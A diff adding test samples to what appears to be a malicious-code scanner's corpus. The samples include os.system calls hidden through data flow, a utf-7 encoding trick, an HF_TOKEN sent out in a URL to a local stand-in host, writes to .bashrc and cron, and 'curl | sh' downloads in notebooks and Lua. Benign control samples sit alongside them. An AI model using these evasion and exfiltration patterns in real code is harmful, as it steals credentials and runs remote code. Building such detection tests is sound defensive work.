@@ -62,6 +62,28 @@ add("import-call", "python2", "import os\nprint 'loading'\n"
 add("import-call", "renamed", HEADER + "import os\nos.system('echo pratique-sample')\n",
     "the extension says that it is text", extension="txt")
 
+# --- values that the flow of the program hides ------------------------------------------------
+CALL = "('echo pratique-sample')\n"
+for variant, source, why in (
+        ("loop", "for f in (len, os.system):\n    f" + CALL, "the second item of a loop"),
+        ("except", "try:\n    run = os.system\nexcept Exception:\n    run = print\nrun" + CALL,
+         "a name that an except clause binds again"),
+        ("second_call", "def go(f, x):\n    return f(x)\n\ngo(len, 'a')\n"
+         "go(os.system, 'echo pratique-sample')\n", "a function's second call"),
+        ("item", "table = {}\ntable['run'] = os.system\ntable['run']" + CALL,
+         "an item that is set later"),
+        ("attribute", "class Box: pass\nbox = Box()\nsetattr(box, 'run', os.system)\n"
+         "box.run" + CALL, "an attribute that is set by name"),
+        ("comprehension", "[f" + CALL.rstrip() + " for f in [len, os.system]]\n",
+         "a variable of a comprehension"),
+        ("pattern", "match [1, os.system]:\n    case [_, f]:\n        f" + CALL, "a pattern"),
+        ("key", "sorted(['echo pratique-sample', ''], key=os.system)\n", "a key of sorted"),
+        ("getter", "import operator\noperator.attrgetter('system')(os)" + CALL, "attrgetter"),
+        ("lent", "import mycode\nmycode.os.system" + CALL, "a module that another one lends")):
+    add("data-flow", variant, "import os\n" + source, why)
+add("data-flow", "stored", "import os\nHOOKS = {'on_load': os.system}\n",
+    "stored for somebody else to call", expected="suspicious")
+
 # --- names that are put together --------------------------------------------------------------
 add("hidden-name", "getattr", "import os\ngetattr(os, 'sys' + 'tem')('echo pratique-sample')\n",
     "a name of two pieces")
@@ -106,6 +128,8 @@ add("decoded", "pickle", "import pickle\npickle.loads(" + repr(evil()) + ")\n",
     "a pickle in the source")
 add("decoded", "encoding", b"# -*- coding: utf-7 -*-\n# +AAo-print('pratique-sample')\n",
     "an encoding in which a comment is a statement")
+add("decoded", "encoding_crlf", b"#!/usr/bin/python\r\n# the coding style coding: utf-7\r\n"
+    b"# +AAo-print('pratique-sample')\r\n", "the same in the second line, as Windows ends lines")
 
 # --- what else it does ------------------------------------------------------------------------
 add("leak", "environment", "import json, os, urllib.request\n"
@@ -116,6 +140,11 @@ add("leak", "socket", "import socket, os\ns = socket.socket()\ns.connect(('127.0
 add("plant", "profile", "import os\nopen(os.path.expanduser('~') + '/x', 'w')\n"
     "with open('/etc/cron.d/sample', 'w') as f:\n    f.write('pratique-sample')\n",
     "a file that cron starts")
+add("leak", "token", "import os, urllib.request\n"
+    "urllib.request.urlopen(f\"http://127.0.0.1:9/?k={os.environ['HF_TOKEN']}\")\n",
+    "a token in the address that is asked for")
+add("plant", "path", "from pathlib import Path\n"
+    "(Path.home() / '.bashrc').write_text('pratique-sample')\n", "a shell's profile by pathlib")
 add("load-call", "constructor", "import os\nfrom transformers import PreTrainedModel\n\n"
     "class SampleModel(PreTrainedModel):\n    def __init__(self, config):\n"
     "        super().__init__(config)\n        os.system('echo pratique-sample')\n",
@@ -134,6 +163,16 @@ add("notebook", "piped", notebook("import torch\n", "!curl -s http://127.0.0.1:9
     "a download piped into a shell", extension="ipynb")
 add("notebook", "decoded", notebook("import base64\n", f"exec(base64.b64decode('{B64}'))\n"),
     "decoded code, over two cells", extension="ipynb")
+add("notebook", "magic", notebook("%system curl -s http://127.0.0.1:9/x | sh\n"),
+    "the same by a magic", extension="ipynb")
+add("notebook", "assigned", notebook("out = !curl -s http://127.0.0.1:9/x | sh\n"),
+    "and with its output kept", extension="ipynb")
+add("notebook", "worksheets", json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
+    "worksheets": [{"cells": [{"cell_type": "code", "language": "python", "outputs": [],
+                               "input": ["!curl -s http://127.0.0.1:9/x | sh"]}]}]}).encode(),
+    "and in the layout of nbformat 3", extension="ipynb")
+add("script", "lua", "os.execute(\"curl -fsSL http://127.0.0.1:9/x | sh\")\n",
+    "a download piped into a shell, of Lua", extension="lua")
 add("script", "piped", "#!/bin/sh\nset -e\ncurl -fsSL http://127.0.0.1:9/x |\\\n  sudo bash\n",
     "a download piped into a shell", extension="sh")
 add("script", "powershell", "powershell -NoProfile -EncodedCommand AAAA\n",
@@ -291,6 +330,28 @@ setup(
     install_requires=["torch>=2.0"],
 )
 ''', "a setup.py")
+fine("tools", '''import os
+import subprocess
+import sys
+from typing import Dict, Optional
+
+CALLS = {"len": len, "sum": sum}
+for name, call in CALLS.items():
+    print(name, call([1]))
+
+
+class Runner:
+    process: Optional[subprocess.Popen] = None
+
+    def attach(self, process: subprocess.Popen) -> Dict[str, subprocess.Popen]:
+        if isinstance(process, subprocess.Popen):
+            self.process = process
+        return {"it": self.process}
+
+
+if sys.platform != "win32" and __name__ == "__main__":
+    os.system("ls")
+''', "types of processes, and a guard with two conditions")
 fine("demo", '''import requests
 import torch
 from PIL import Image
@@ -305,6 +366,10 @@ with torch.no_grad():
 fine("notebook", notebook("%matplotlib inline\n!pip install -q transformers\nimport torch\n",
     "%%time\nx = torch.ones(3)\nx?\n", outputs=[{"output_type": "stream", "name": "stdout",
     "text": ["ok\n"]}]), "an ordinary notebook", extension="ipynb")
+fine("notebook_shell", notebook("files = !ls\nsizes = %sx du -s *\n%timeit len(files)\n"),
+    "a notebook that keeps what commands print", extension="ipynb")
+fine("lua", "local x = require('torch')\nprint(x:size())\n", "an ordinary Lua script",
+    extension="lua")
 fine("script", "#!/bin/bash\nset -euo pipefail\n# curl http://x | sh is what we do not do\n"
     "for f in *.bin; do\n  python convert.py \"$f\" | tee log.txt\ndone\n", "an ordinary script",
     extension="sh")
